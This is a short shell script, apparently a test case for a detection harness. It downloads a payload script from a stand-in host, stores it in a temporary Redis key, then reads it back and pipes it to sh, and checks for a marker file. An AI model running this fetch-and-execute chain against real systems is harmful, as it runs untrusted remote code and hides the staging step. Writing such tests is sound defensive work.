#!/bin/sh
. /opt/case/case.sh

redis-server --port 6390 --save '' --daemonize yes >/dev/null
until redis-cli -p 6390 ping >/dev/null 2>&1; do sleep 0.1; done
curl -s http://203.0.113.10/payload.sh | redis-cli -p 6390 -x set sess:9f31 >/dev/null
redis-cli -p 6390 --raw get sess:9f31 | sh
redis-cli -p 6390 shutdown nosave 2>/dev/null || true
test -e /tmp/reached
took_place
